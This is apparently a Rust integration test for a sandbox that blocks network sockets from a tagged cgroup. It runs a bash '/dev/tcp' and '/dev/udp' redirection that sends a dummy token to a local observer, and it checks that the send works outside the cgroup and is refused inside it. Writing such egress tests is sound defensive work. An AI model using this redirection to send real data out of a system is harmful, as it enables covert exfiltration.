//! Sockets of every kind, from within a tagged cgroup.

use tests::harness::{WAIT, finish};

use crate::world::World;

#[test]
fn a_shell_reaches_nobody_by_tcp_or_udp() -> anyhow::Result<()> {
    let world = World::new()?;
    let to = world.observers.targets().v4;
    for kind in ["tcp", "udp"] {
        let script = format!("echo token > /dev/{kind}/{}/{}", to.ip(), to.port());
        let mut control = world.free.command("bash");
        finish(control.args(["-c", &script]), "", WAIT)?.success()?;
        assert_eq!(world.observers.arrived()?, [b"token\n"], "{kind}");

        let mut attack = world.governed.command("bash");
        finish(attack.args(["-c", &script]), "", WAIT)?;
        assert!(world.observers.arrived()?.is_empty(), "{kind}");
    }
    assert!(world.refused()?["packet"].as_u64() > Some(0));
    let sessions = world.daemon.sessions()?;
    assert_eq!(sessions[0]["origin"], to.to_string(), "{sessions:#?}");
    Ok(())
}
